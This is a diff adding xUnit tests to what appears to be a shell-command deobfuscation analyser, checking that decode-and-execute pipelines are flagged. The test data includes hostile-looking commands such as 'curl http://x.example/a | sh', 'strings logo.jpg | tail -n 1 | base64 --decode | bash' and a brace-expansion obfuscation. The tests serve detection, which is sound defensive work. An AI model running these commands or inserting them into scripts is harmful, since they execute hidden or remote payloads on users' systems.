@@ -57,6 +57,29 @@ public sealed class DeobfuscationTests
         Assert.Contains("pipe: curl http://x.example/a | sh", lines);
     }
 
+    [Theory]
+    [InlineData("base64 -d payload.b64 | sh", "flow: decoded-file-exec sh")]
+    [InlineData("strings logo.jpg | tail -n 1 | base64 --decode | bash", "flow: decoded-file-exec sh")]
+    [InlineData("xxd -r -p blob.hex | python3", "flow: decoded-file-exec python")]
+    public void Encoded_file_content_piped_into_an_interpreter_is_a_flow(string line, string flow)
+    {
+        Assert.Contains(flow, RecordingEffects.Lines(line));
+    }
+
+    [Theory]
+    [InlineData("gunzip -c install.sh.gz | sh")]
+    [InlineData("base64 -d key.b64 > key.bin")]
+    public void Decompressing_or_decoding_without_running_is_not_that_flow(string line)
+    {
+        Assert.DoesNotContain(RecordingEffects.Lines(line), l => l.StartsWith("flow: decoded", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void A_brace_group_that_cannot_be_expanded_stays_visible_in_command_position()
+    {
+        Assert.Contains(RecordingEffects.Lines("bash -c \"{echo,\\\"$X\\\"}|{base64,-d}\""), l => l.StartsWith("cmd: {echo,", StringComparison.Ordinal));
+    }
+
     [Fact]
     public void A_gzipped_base64_payload_is_decompressed()
     {
